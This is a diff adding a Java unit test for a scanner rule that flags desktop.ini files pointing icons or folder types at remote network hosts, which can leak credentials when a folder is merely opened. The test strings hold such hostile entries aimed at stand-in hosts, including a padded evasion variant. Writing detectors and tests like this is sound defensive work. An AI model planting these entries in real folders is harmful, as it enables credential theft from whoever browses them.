@@ -1,0 +1,56 @@
+package dev.dropgate.inspect.rules.documents;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.dropgate.inspect.Inspector;
+import dev.dropgate.inspect.RuleSet;
+import dev.dropgate.inspect.ScanTarget;
+import dev.dropgate.inspect.content.MemoryContent;
+import dev.dropgate.model.EntryKind;
+import dev.dropgate.model.ScanResult;
+import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** A folder that is only looked at must not send anybody's credentials away. */
+class RemoteIconRuleTest {
+  private final RuleSet rules = new Inspector().ruleSet(null, null);
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.9\\s\\i.ico,0\r\n",
+        "[.ShellClassInfo]\r\nIconFile = \"\\\\host.example\\s\\i.ico\"\r\n",
+        "[.ShellClassInfo]\nLogo=//host.example/s/logo.png\n",
+        "[ViewState]\r\nFolderType=@\\\\10.0.0.1\\x.dll,-1\r\n"
+      })
+  void aServerInIt(String text) {
+    for (Charset charset : new Charset[] {StandardCharsets.US_ASCII, StandardCharsets.UTF_16LE}) {
+      assertThat(judge("Desktop.ini", text, charset).rules()).isEqualTo("remote-icon");
+      assertThat(judge("desktop.ini ", "; padded\r\n".repeat(20_000) + text, charset).rules())
+          .isEqualTo("remote-icon");
+      assertThat(judge("notes.ini", text, charset)).matches(j -> j.findings().isEmpty());
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "[X]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\n",
+        "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,-112\r\n",
+        "[.ShellClassInfo]\r\nInfoTip=see //comment\r\nURL=http://a.example/\r\n",
+        "",
+        "=\\\\"
+      })
+  void whatWindowsWritesItselfIsClean(String text) {
+    assertThat(judge("desktop.ini", text, StandardCharsets.US_ASCII))
+        .matches(j -> j.findings().isEmpty());
+  }
+
+  private ScanResult judge(String name, String text, Charset charset) {
+    return rules.judge(
+        new ScanTarget(Path.of(name), EntryKind.FILE, new MemoryContent(text.getBytes(charset))));
+  }
+}
